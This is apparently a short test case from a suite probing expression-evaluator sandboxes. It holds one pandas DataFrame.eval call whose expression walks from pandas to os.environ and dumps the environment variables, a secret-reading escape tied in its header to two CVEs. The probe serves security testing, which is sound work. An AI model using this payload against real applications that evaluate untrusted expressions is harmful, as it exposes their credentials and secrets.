"""Walk attributes inside an expression that pandas evaluates.

family: evaluators
canary: secret
stops: full, container
root: no
related: CVE-2025-46724, CVE-2026-25481
"""

import pandas

pandas.DataFrame({"a": [1]}).eval("b = @pandas.io.common.os.environ.copy().__str__()", engine="python")
